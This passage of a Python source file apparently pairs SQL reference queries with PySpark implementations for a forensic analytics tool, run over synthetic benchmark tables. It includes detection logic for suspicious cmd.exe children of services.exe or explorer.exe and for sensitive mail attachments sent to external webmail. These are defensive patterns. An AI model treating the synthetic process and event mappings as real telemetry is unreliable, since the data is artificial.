        "t_end", F.expr("t_start + make_dt_interval(days)"))
    return joins.covering_intervals(adapter(spark, sf, "points"), spans, "device", "t", "t_start",
                                    "t_end").select("device", "owner", "app", "seq", "t")


@query("near_times", sql("intervals points", """
SELECT p.device, i.seq, p.t, CAST((epoch_us(t_start) - epoch_us(t)) / 1000000 AS DOUBLE)
  AS gap_seconds FROM points p JOIN intervals i ON i.device = p.device
WHERE abs(epoch_us(t_start) - epoch_us(t)) <= 2592000 * 1000000::BIGINT"""))
def near_times(spark, sf):
    return joins.near_times(adapter(spark, sf, "points"), adapter(spark, sf, "intervals"),
                            "device", "t", "t_start", 30 * 86400).select(
        "device", "seq", "t", "gap_seconds")


PROCESSES = """SELECT concat('host', CAST(CAST(floor(s_suppkey / 25) AS BIGINT) AS STRING)) AS host, s_suppkey AS pid,
CASE WHEN s_suppkey % 5 = 0 THEN 4 WHEN s_suppkey % 5 = 1 THEN s_suppkey + 900000
  ELSE s_suppkey - s_suppkey % 5 END AS ppid,
CASE s_suppkey % 6 WHEN 0 THEN 'Services.exe' WHEN 1 THEN 'svchost.exe' WHEN 2 THEN 'cmd.exe'
  WHEN 3 THEN 'explorer.exe' WHEN 4 THEN 'lsass.exe' ELSE 'winword.exe' END AS name
FROM {supplier}"""


def processes(spark, sf):
    return spark.sql(PROCESSES, supplier=table(spark, sf, "supplier"))


PROC_CTE = f"pr AS ({PROCESSES.format(supplier='supplier')})"


@query("process_profile", f"""WITH {PROC_CTE},
l AS (SELECT host, pid, ppid, lower(name) AS name FROM pr),
w AS (SELECT l.*, p.name AS parent FROM l LEFT JOIN l p ON p.host = l.host AND p.pid = l.ppid),
x(name, parents, ex, mn, mx) AS (VALUES ('wininit.exe', ['smss.exe'], 1, NULL, NULL),
 ('services.exe', ['wininit.exe'], 1, NULL, NULL), ('lsass.exe', ['wininit.exe'], 1, NULL, NULL),
 ('lsaiso.exe', ['wininit.exe'], NULL, NULL, 1), ('winlogon.exe', ['smss.exe'], NULL, 1, NULL),
 ('csrss.exe', ['smss.exe'], NULL, 2, NULL), ('smss.exe', ['system'], 1, NULL, NULL),
 ('explorer.exe', ['userinit.exe'], NULL, NULL, NULL),
 ('svchost.exe', ['services.exe'], NULL, 3, NULL),
 ('runtimebroker.exe', ['svchost.exe'], NULL, NULL, NULL),
 ('taskhostw.exe', ['svchost.exe'], NULL, NULL, NULL)),
c AS (SELECT h.host, x.name, x.ex, x.mn, x.mx, count(w.pid) AS n, count(*) FILTER (parent IS NOT
  NULL AND NOT list_contains(parents, parent)) AS wrong FROM (SELECT DISTINCT host FROM l) h
  CROSS JOIN x LEFT JOIN w ON w.host = h.host AND w.name = x.name GROUP BY ALL),
r AS (SELECT host, name, n, wrong AS wrong_parents, CASE WHEN ex IS NOT NULL AND n = 0
  THEN 'process_missing' WHEN n > ex THEN 'count_high' WHEN n < ex THEN 'count_low' WHEN n > mx
  THEN 'count_high' WHEN n < mn AND n > 0 THEN 'count_low' WHEN wrong > 0
  THEN 'unexpected_parent' END AS reason FROM c) SELECT * FROM r WHERE reason IS NOT NULL""")
def process_profile(spark, sf):
    return joins.process_profile(processes(spark, sf)).drop("sample_parent")


@query("process_shell_children", f"""WITH {PROC_CTE}
SELECT c.host, c.pid, lower(c.name) AS name, lower(p.name) AS parent_name FROM pr c
JOIN pr p ON p.host = c.host AND p.pid = c.ppid
WHERE lower(p.name) IN ('services.exe', 'explorer.exe') AND lower(c.name) = 'cmd.exe'""")
def process_shell_children(spark, sf):
    return joins.shell_children(processes(spark, sf), ["services.exe", "explorer.exe"],
                                ["cmd.exe"]).select("host", "pid", "name", "parent_name")


@query("process_orphans", f"""WITH {PROC_CTE} SELECT host, pid, ppid FROM pr c
WHERE ppid NOT IN (0, 4) AND NOT EXISTS (SELECT 1 FROM pr p WHERE p.host = c.host
AND p.pid = c.ppid)""")
def process_orphans(spark, sf):
    return joins.orphans(processes(spark, sf)).select("host", "pid", "ppid")


@query("shared_processes", f"""WITH {PROC_CTE} SELECT name, count(DISTINCT host) AS hosts,
  min(host) AS host_a, max(host) AS host_b FROM pr GROUP BY name HAVING count(DISTINCT host) > 1""")
def shared_processes(spark, sf):
    return joins.shared_names(processes(spark, sf))


@query("paired_captures", """
WITH d AS (SELECT 'dev' || (doc_id // 3) || CASE doc_id % 3 WHEN 0 THEN '-mem' WHEN 1
  THEN '-baseline-mem' ELSE '_snapshot2' END AS name, 'dev' || (doc_id // 3) AS root, doc_id
  AS mtime, substr(text, 1, 20) AS head, doc_id % 3 = 1 AS sc FROM documents),
g AS (SELECT root, count(*) AS members, arg_min(name, mtime) AS an, arg_min(head, mtime) AS ah,
  arg_min(sc, mtime) AS asc_, arg_max(name, mtime) AS bn, arg_max(head, mtime) AS bh,
  arg_max(sc, mtime) AS bsc FROM d GROUP BY root)
SELECT root, members, CASE WHEN bsc AND NOT asc_ THEN bn ELSE an END AS authoritative,
  CASE WHEN bsc AND NOT asc_ THEN an ELSE bn END AS baseline FROM g
WHERE members >= 2 AND ah <> bh""")
def paired_captures(spark, sf):
    m = F.col("doc_id") % 3
    d = table(spark, sf, "documents").select(
        F.concat(F.lit("Dev"), F.floor(F.col("doc_id") / 3), F.when(m == 0, "-mem").when(
            m == 1, "-baseline-mem").otherwise("_snapshot2")).alias("name"),
        F.lit(4096).alias("size"), F.col("doc_id").alias("mtime"),
        F.substring("text", 1, 20).alias("head"), (m == 1).alias("has_sidecar"))
    r = joins.paired_captures(d)
    return r.select("root", "members", F.lower("authoritative").alias("authoritative"),
                    F.lower("baseline").alias("baseline"))


# --- similarity ---------------------------------------------------------------------------------------------

@query("similar_hashes", f"""WITH {DIGEST_CTE}, u AS (SELECT DISTINCT phash FROM dg)
SELECT a.phash AS hash_a, b.phash AS hash_b, CAST({POP} AS INT) AS distance FROM u a JOIN u b
ON a.phash < b.phash WHERE {POP} <= 8""")
def similar_hashes(spark, sf):
    return similarity.hash_neighbours(digests(spark, sf), max_distance=8)


@query("near_identical_pairs", f"""WITH {DIGEST_CTE},
h AS (SELECT phash, count(*) AS n FROM dg GROUP BY phash)
SELECT a.phash AS hash_a, b.phash AS hash_b, CAST({POP} AS INT) AS distance, a.n AS contents_a,
  b.n AS contents_b FROM h a JOIN h b ON a.phash < b.phash WHERE {POP} <= 8
UNION ALL SELECT phash, phash, 0, n, n FROM h WHERE n > 1""")
def near_identical_pairs(spark, sf):
    return similarity.near_identical(digests(spark, sf))


@query("similar_across_cases", f"""WITH {DIGEST_CTE},
o AS (SELECT DISTINCT 'case' || label AS case_id, phash FROM dg),
n AS (SELECT a.phash AS h, b.phash AS s, CAST({POP} AS INT) AS d FROM (SELECT DISTINCT phash FROM o)
  a JOIN (SELECT DISTINCT phash FROM o) b ON true WHERE {POP} <= 8)
SELECT o.case_id, n.h AS hash, n.s AS similar, d AS distance, count(*) AS other_cases FROM o
JOIN n ON n.h = o.phash JOIN o x ON x.phash = n.s AND x.case_id <> o.case_id GROUP BY ALL""")
def similar_across_cases(spark, sf):
    return similarity.similar_across_cases(digests(spark, sf))


# --- files --------------------------------------------------------------------------------------------------

@query("mirrored_files", """
WITH f AS (SELECT md5(text) AS sha256, source AS provider, n_chars,
  'C:/Users/' || source || '/doc' || doc_id || '.txt' AS path FROM documents WHERE n_chars >= 1024)
SELECT sha256, count(DISTINCT provider) AS providers, count(*) AS copies, min(path) AS sample_path
FROM f GROUP BY sha256 HAVING count(DISTINCT provider) >= 3""")
def mirrored_files(spark, sf):
    f = adapter(spark, sf, "files").withColumn("sha256", F.md5("text"))
    return fl.mirrored_files(f)


@query("mirrored_contents", """
SELECT sha256(text) AS sha256, count(DISTINCT source) AS providers, count(*) AS copies,
  min('C:/Users/' || source || '/doc' || doc_id || '.txt') AS sample_path FROM documents
WHERE n_chars >= 1024 GROUP BY 1 HAVING count(DISTINCT source) >= 2""")
def mirrored_contents(spark, sf):
    f = adapter(spark, sf, "files").withColumn("sha256", F.sha2("text", 256))
    return fl.mirrored_files(f, 2)


@query("sync_providers", """
SELECT s_suppkey, CASE s_suppkey % 4 WHEN 0 THEN 'Dropbox' WHEN 1 THEN 'OneDrive' WHEN 2
  THEN 'Google Drive' END AS provider FROM supplier""")
def sync_providers(spark, sf):
    m = F.col("s_suppkey") % 4
    root = (F.when(m == 0, "C:\\Users\\u\\Dropbox\\").when(m == 1, "/home/u/OneDrive/").when(
        m == 2, "C:\\Users\\u\\Google Drive\\x\\").otherwise("/home/u/docs/"))
    return table(spark, sf, "supplier").select("s_suppkey", fl.sync_provider(
        F.concat(root, "s_name")).alias("provider"))


META = """SELECT o_orderkey AS file_id, o_orderkey % 3 <> 0 AS allocated,
o_orderkey % 2 = 0 AS non_resident, o_orderkey % 5 < 3 AS content_zero,
CASE WHEN o_orderkey % 7 = 0 THEN 0 ELSE CAST(o_custkey * 40 AS BIGINT) END AS init_size,
CAST(o_custkey % 4 AS BIGINT) AS data_size, o_orderkey % 11 = 0 AS is_placeholder,
concat('C:/Users/u', CAST(o_custkey AS STRING), CASE o_orderkey % 4 WHEN 0 THEN '/mail.ost'
  WHEN 1 THEN '/NTUSER.DAT' WHEN 2 THEN '/logs/Security.evtx' ELSE '/a.txt' END) AS path
FROM {orders}"""


@query("wipe_verdict", f"""WITH m AS ({META.format(orders='orders')}),
s AS (SELECT *, CASE WHEN is_placeholder AND content_zero THEN 'cloud_placeholder'
  WHEN allocated AND non_resident AND content_zero AND NOT is_placeholder AND init_size >= 4096
  THEN 'wiped_in_place' WHEN NOT allocated AND (data_size > 0 OR non_resident)
  THEN 'deleted_recoverable' WHEN content_zero AND init_size = 0 THEN 'empty_stub'
  ELSE 'intact' END AS status FROM m)
SELECT file_id, status, CASE status WHEN 'wiped_in_place' THEN 'high' WHEN 'deleted_recoverable'
  THEN 'medium' ELSE 'insufficient' END AS confidence, CAST(CASE file_id % 4 WHEN 0 THEN 0 WHEN 1
  THEN 2 WHEN 2 THEN 5 ELSE 14 END AS INT) AS priority FROM s""")
def wipe_verdict(spark, sf):
    m = spark.sql(META, orders=table(spark, sf, "orders"))
    return fl.wipe_verdict(m).select("file_id", "status", "confidence", "priority")


@query("inventory_counts", sql("files", """
SELECT source, count(*) AS files, CAST(sum(size) AS BIGINT) AS bytes, CAST(0 AS BIGINT)
  AS databases FROM files GROUP BY source"""))
def inventory_counts(spark, sf):
    return fl.inventory_counts(adapter(spark, sf, "files"), ["source"])


@query("changed_settings", """
SELECT o_custkey, count(DISTINCT o_orderstatus) AS o_orderstatus_values,
  count(DISTINCT o_orderpriority) AS o_orderpriority_values FROM orders GROUP BY o_custkey
HAVING count(DISTINCT o_orderstatus) > 1 OR count(DISTINCT o_orderpriority) > 1""")
def changed_settings(spark, sf):
    return fl.changed_settings(table(spark, sf, "orders"), ["o_custkey"],
                               ["o_orderstatus", "o_orderpriority"])


@query("usage_totals", """
SELECT user_id, event_type, round(sum(value), 2) AS total, count(*) AS n, min(value) AS lo,
  max(value) AS hi FROM events GROUP BY ALL""")
def usage_totals(spark, sf):
    from emberlog.operators.usage import sample_totals
    return sample_totals(table(spark, sf, "events"), ["user_id", "event_type"], "value")


@query("log_rollups", """
SELECT event_type, count(*) AS n, min(ts) AS first_seen, max(ts) AS last_seen FROM events
WHERE contains(props, '7') GROUP BY event_type""")
def log_rollups(spark, sf):
    from emberlog.operators.logs import rollup
    return rollup(table(spark, sf, "events").filter(F.col("props").contains("7")),
                  ["event_type"])


@query("valued_events", """
SELECT 4624 + k AS event_id, count(*) AS n, CASE 4624 + k WHEN 4624 THEN 'successful logon'
  WHEN 4625 THEN 'failed logon' WHEN 4648 THEN 'explicit credential logon' WHEN 4672
  THEN 'special privileges' WHEN 4688 THEN 'process created' WHEN 4697 THEN 'service installed'
  WHEN 4698 THEN 'scheduled task created' WHEN 4720 THEN 'account created' END AS label
FROM (SELECT CAST(regexp_extract(props, '([0-9]+)', 1) AS BIGINT) AS k FROM events)
WHERE 4624 + k IN (4624, 4625, 4648, 4672, 4688, 4697, 4698, 4720) GROUP BY k""")
def valued_events(spark, sf):
    from emberlog.operators.logs import valued_events as op
    e = table(spark, sf, "events").select((F.regexp_extract("props", "([0-9]+)", 1).cast(
        "bigint") + 4624).alias("event_id"))
    return op(e)


@query("verify_seal", """
WITH a AS (SELECT doc_id, sha256(text) AS s FROM documents),
b AS (SELECT doc_id + CAST(doc_id % 97 = 0 AS INT) * 10000000 AS doc_id, CASE WHEN doc_id % 50 = 0
  THEN 'x' ELSE sha256(text) END AS s FROM documents),
j AS (SELECT coalesce(a.doc_id, b.doc_id) AS d, CASE WHEN b.s IS NULL THEN 'missing' WHEN a.s IS
  NULL THEN 'added' WHEN a.s <> b.s THEN 'changed' END AS state FROM a FULL JOIN b USING (doc_id))
SELECT 'f' || d AS path, state FROM j WHERE state IS NOT NULL""")
def verify_seal(spark, sf):
    d = table(spark, sf, "documents")
    a = d.select(F.concat(F.lit("f"), "doc_id").alias("path"), F.sha2("text", 256).alias("sha256"))
    b = d.select(F.concat(F.lit("f"), F.col("doc_id") + F.when(F.col("doc_id") % 97 == 0, 10000000)
                          .otherwise(0)).alias("path"),
                 F.when(F.col("doc_id") % 50 == 0, "x").otherwise(F.sha2("text", 256)).alias(
                     "sha256"))
    return fl.verify_seal(a, b)


@query("seal_root", """
WITH m AS (SELECT 'f' || doc_id AS path, sha256(text) AS s FROM documents),
l AS (SELECT sha256(path)[1:4] AS leaf, sha256(string_agg(path || ' ' || s, chr(10) ORDER BY path))
  AS v, count(*) AS n FROM m GROUP BY 1),
g AS (SELECT leaf[1:2] AS b, sha256(string_agg(v, chr(10) ORDER BY leaf)) AS v, sum(n) AS n FROM l
  GROUP BY 1)
SELECT sha256(string_agg(v, chr(10) ORDER BY b)) AS root, CAST(sum(n) AS BIGINT) AS files FROM g""")
def seal_root(spark, sf):
    return fl.seal(table(spark, sf, "documents").select(
        F.concat(F.lit("f"), "doc_id").alias("path"), F.sha2("text", 256).alias("sha256")))


# --- mail ---------------------------------------------------------------------------------------------------

def messages(spark, sf):
    r = F.struct(F.col("recipient_display").alias("display"), F.col("recipient_email").alias(
        "email"))
    a = F.struct(F.col("attachment").alias("filename"), F.col("attachment_size").alias("size"))
    return adapter(spark, sf, "messages").withColumn("recipients", F.array(r)).withColumn(
        "attachments", F.filter(F.array(a), lambda x: x["filename"].isNotNull()))


MISMATCH = ("contains(recipient_display, '@') AND split_part(recipient_display, '@', 2) <> "
            "split_part(recipient_email, '@', 2)")


@query("mail_recipient_mismatch", sql("messages", f"""
SELECT message_id, folder, subject, recipient_display AS display, recipient_email AS email
FROM messages WHERE {MISMATCH}"""))
def mail_recipient_mismatch(spark, sf):
    return mail.recipient_mismatches(messages(spark, sf))


@query("mail_reply_chain", sql("messages", f"""
WITH stems AS (SELECT DISTINCT CASE WHEN turn = 1 THEN 'topic ' || conv_id ELSE 're: topic ' ||
  conv_id END AS stem FROM messages WHERE folder = 'Sent Items' AND turn > 0 AND {MISMATCH})
SELECT message_id, 'topic ' || conv_id AS stem FROM messages WHERE folder = 'Inbox'
AND 'topic ' || conv_id IN (SELECT stem FROM stems)"""))
def mail_reply_chain(spark, sf):
    return mail.reply_precursors(messages(spark, sf)).select("message_id", "stem")


@query("mail_local_domains", sql("messages", """
WITH c AS (SELECT split_part(sender_email, '@', 2) AS domain, count(*) AS n FROM messages GROUP BY 1)
SELECT * FROM c WHERE n >= greatest(1, (SELECT max(n) FROM c) // 3)"""))
def mail_local_domains(spark, sf):
    return mail.local_domains(messages(spark, sf))


@query("mail_attachment_exfil", sql("messages", """
WITH c AS (SELECT split_part(sender_email, '@', 2) AS domain, count(*) AS n FROM messages GROUP BY 1),
loc AS (SELECT domain FROM c WHERE n >= greatest(1, (SELECT max(n) FROM c) // 3))
SELECT message_id, 1 AS sensitive_files, CAST(attachment_size >= 102400 AS INT) AS bulk_files,
  CAST(1 AS BIGINT) AS external_domains, recipient_email LIKE '%@gmail.com' AS webmail,
  'sensitive' AS kind, CASE WHEN recipient_email LIKE '%@gmail.com' THEN 'high' ELSE 'medium' END
  AS confidence FROM messages WHERE attachment LIKE 'plan%.xlsx'
AND split_part(recipient_email, '@', 2) NOT IN (SELECT domain FROM loc)"""))
def mail_attachment_exfil(spark, sf):
    return mail.attachment_exfil(messages(spark, sf))


@query("mail_top_correspondents", sql("messages", """
WITH p AS (SELECT sender_email AS peer, 'in' AS way FROM messages WHERE folder <> 'Sent Items'
  UNION ALL SELECT recipient_email, 'out' FROM messages WHERE folder = 'Sent Items')
SELECT peer, count(*) AS messages, count(*) FILTER (way = 'in') AS received,
  count(*) FILTER (way = 'out') AS sent FROM p GROUP BY peer ORDER BY messages DESC, peer LIMIT 10"""))
def mail_top_correspondents(spark, sf):
    return mail.top_correspondents(messages(spark, sf))


@query("mail_search", sql("messages", """
SELECT message_id FROM messages WHERE contains(lower(text), 'tion') OR contains(lower(subject),
'tion')"""))
def mail_search(spark, sf):
    return mail.search(messages(spark, sf), "Tion").select("message_id")


# --- entity graph ------------------------------------------------------------------------------------------------

def _graph(spark, sf):
    flows = adapter(spark, sf, "flows")
    pairs = indicators.resolved_pairs(adapter(spark, sf, "dns"))
    n = graph.merged([graph.nodes(flows, "IPAddress", "src"), graph.nodes(flows, "IPAddress", "dst"),
                      graph.nodes(pairs, "Domain", "domain"), graph.nodes(pairs, "IPAddress", "ip")])
    e = graph.merged([graph.edges(flows, "CONNECTED_TO", "IPAddress", "src", "IPAddress", "dst"),
                      graph.edges(pairs, "RESOLVED_TO", "Domain", "domain", "IPAddress", "ip")])
    return n, e


GRAPH = """pairs AS (SELECT DISTINCT lower(query) AS domain, trim(a) AS ip FROM (
  SELECT query, unnest(string_split(answers, ',')) AS a FROM dns)
  WHERE regexp_full_match(trim(a), '[0-9]+[.][0-9]+[.][0-9]+[.][0-9]+')),
n AS (SELECT 'IPAddress' AS kind, src AS id FROM flows UNION SELECT 'IPAddress', dst FROM flows
  UNION SELECT 'Domain', domain FROM pairs UNION SELECT 'IPAddress', ip FROM pairs),
e AS (SELECT 'CONNECTED_TO' AS kind, 'IPAddress' AS src_kind, src, 'IPAddress' AS dst_kind, dst
  FROM flows UNION SELECT 'RESOLVED_TO', 'Domain', domain, 'IPAddress', ip FROM pairs),
dg AS (SELECT kind, id, count(*) AS degree FROM (SELECT src_kind AS kind, src AS id FROM e
  UNION ALL SELECT dst_kind, dst FROM e) GROUP BY ALL),
top AS (SELECT n.kind, n.id, coalesce(degree, 0) AS degree FROM n LEFT JOIN dg USING (kind, id)
  ORDER BY degree DESC, id, kind LIMIT 500)"""


@query("graph_nodes", sql("flows dns", f"WITH {GRAPH} SELECT kind, id, degree FROM top"))
def graph_nodes(spark, sf):
    return graph.capped_graph(*_graph(spark, sf), 500)[0]


@query("graph_edges", sql("flows dns", f"""WITH {GRAPH}
SELECT e.* FROM e WHERE EXISTS (SELECT 1 FROM top WHERE kind = src_kind AND id = src)
AND EXISTS (SELECT 1 FROM top WHERE kind = dst_kind AND id = dst)"""))
def graph_edges(spark, sf):
    return graph.capped_graph(*_graph(spark, sf), 500)[1]


@query("graph_entity_counts", sql("flows dns", f"""WITH {GRAPH}
SELECT kind, count(*) AS n FROM n GROUP BY kind"""))
def graph_entity_counts(spark, sf):
    return graph.entity_counts(_graph(spark, sf)[0])


@query("graph_top_destinations", sql("flows", """
SELECT dst AS addr, count(*) AS flows, NOT starts_with(dst, '10.') AS external FROM flows
GROUP BY dst ORDER BY flows DESC, dst LIMIT 20"""))
def graph_top_destinations(spark, sf):
    return graph.top_destinations(adapter(spark, sf, "flows"), 20)


STAGES = """SELECT DISTINCT host, CASE WHEN list_contains(tags, 'H_SCAN_RECON') THEN 'scan_recon'
  WHEN list_contains(tags, 'H_BRUTE_FORCE') THEN 'brute_force' ELSE 'process_injection' END
  AS stage FROM findings WHERE list_has_any(tags, ['H_SCAN_RECON', 'H_BRUTE_FORCE',
  'H_PROCESS_INJECTION'])"""


@query("graph_stage_chain", sql("findings", f"""WITH s AS ({STAGES}),
p AS (SELECT stage, count(DISTINCT host) AS hosts FROM s GROUP BY stage)
SELECT count(*) AS stages, max(hosts) AS max_hosts, string_agg(stage, ' -> ' ORDER BY CASE stage
  WHEN 'scan_recon' THEN 1 WHEN 'brute_force' THEN 2 ELSE 4 END) AS chain FROM p"""))
def graph_stage_chain(spark, sf):
    f = adapter(spark, sf, "findings")
    stage = fn.first_match([(F.array_contains("tags", t), s) for t, s in (
        ("H_SCAN_RECON", "scan_recon"), ("H_BRUTE_FORCE", "brute_force"),
        ("H_PROCESS_INJECTION", "process_injection"))])
    return graph.stage_chain(f.select("host", stage.alias("stage")))


@query("graph_pivot_addresses", sql("http", """
SELECT src AS ip, count(DISTINCT host) AS hosts FROM http WHERE NOT starts_with(src, '10.')
GROUP BY src HAVING count(DISTINCT host) >= 2"""))
def graph_pivot_addresses(spark, sf):
    return graph.pivot_addresses(adapter(spark, sf, "http").select("host", F.col("src").alias("ip")))


@query("graph_new_dns_edges", sql("flows dns", f"""WITH {GRAPH}
SELECT kind, src_kind, src, dst_kind, dst FROM e WHERE kind = 'RESOLVED_TO'
AND NOT starts_with(src, 'www.')"""))
def graph_new_dns_edges(spark, sf):
    e = _graph(spark, sf)[1]
    known = e.filter(F.col("src").startswith("www."))
    return graph.new_edges(e.filter(F.col("kind") == "RESOLVED_TO"), known)
